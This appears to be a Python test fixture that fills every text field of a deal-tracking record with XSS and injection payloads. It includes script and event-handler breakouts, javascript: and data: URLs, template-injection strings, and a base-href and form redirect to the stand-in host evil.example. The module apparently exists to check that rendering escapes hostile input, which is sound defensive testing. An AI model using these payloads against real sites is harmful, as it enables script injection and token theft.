"""A book in which every text that people can write holds markup, and the same book without."""

from __future__ import annotations

from collections.abc import Callable

from tracker.domain.drafts import Citation, Correction, Dispute, Draft, Retraction
from tracker.domain.sources import Source
from tracker.store.book import Book

Text = Callable[[str], str]

MARKUP = (
    "<script>hit()</script>",
    "<img src=x onerror=hit()>",
    "'><svg onload=hit()>",
    '"><script>hit()</script>',
    '" onmouseover="hit()" x="',
    "' autofocus onfocus='hit()",
    "</title></style></textarea></script><script>hit()</script>",
    "</option></select><iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "]]><a xlink:href='javascript:hit()'>x</a>",
    "--><base href=//evil.example/><!--",
    "&lt;script&gt;hit()&lt;/script&gt;&#60;b&#62;&quot;",
    "<form action=//evil.example><input name=token><meta http-equiv=refresh content=0>",
    "{{ 7 * 7 }}{% include 'base.html' %}${hit()}`hit()`\\u003cb\\u003e",
    "%3Cscript%3Ehit()%3C/script%3E +ADw-script+AD4-",
)
TOGETHER = tuple(" ".join(MARKUP[first::5]) for first in range(5))
"""The same in fewer texts."""
ADDRESSES = (
    "javascript:hit()",
    "JaVaScRiPt:hit()//https://deals.example",
    "data:text/html,<script>hit()</script>",
    "vbscript:hit()",
    "//evil.example/x",
    "https:javascript:hit()",
    'https://deals.example/" onclick="hit()',
    "https://deals.example/' onclick='hit()'><script>hit()</script>",
    "http://user:word@deals.example:99999/%00?<b>#'",
)
DEAL = "target"


def plain(word: str) -> str:
    return f"{word} and more"


def holding(markup: str) -> Text:
    """Every text with that markup behind its first word."""
    return lambda word: f"{word} {markup}"


def write(book: Book, text: Text, address: str, deal: str = DEAL) -> None:
    """A deal with a text in every field that takes one."""

    def name(word: str) -> str:
        return text(word).replace('"', "”")

    def terms(word: str) -> str:
        first, _, rest = name(word).partition(" ")
        return f"{first} {rest.replace(' ', '_').replace(':', '')}"

    def source(word: str) -> Source:
        return Source(
            text(f"{word} paper"),
            title=text("a title"),
            url=address,
            published="2020-09-03",
            quote=text("a quote"),
            basis="named",
            via=text("another paper"),
        )

    book.new(
        deal,
        text("A title"),
        zone="Europe/London",
        seller=text("A seller"),
        target=text("A target"),
    )
    for sentence, on in (
        (f'"{name("Anna")}" bid of {terms("$5bn and")}', "02"),
        (f'"{name("Berta")}" chosen as {terms("partner")}', "03"),
        (f'"{name("Clara")}" joined "{name("Berta")}"', "03"),
        (f'"{name("offer")}" due 2020-09-20', "03"),
        (f'"{name("board")}" review opened', "04"),
        (f'"{name("fee")}" set to {terms("nine")}', "04"),
        (f"note: {text('a note')}", "05"),
    ):
        book.record(
            deal,
            Draft(
                sentence=sentence,
                on=f"2020-09-{on}",
                by=name("Doris"),
                sources=(source("first"), source("second")),
                new=True,
            ),
        )
    because, rival = text("a reason"), f'"{name("Elsa")}" chosen'
    for amendment in (
        Correction(entry=1, because=because, on="2020-09-01", by=name("Flora"), new=True),
        Citation(entry=2, source=source("third")),
        Dispute(entry=2, because=because, source=source("fourth"), claims=rival, new=True),
        Retraction(entry=7, because=because),
    ):
        book.record(deal, amendment)
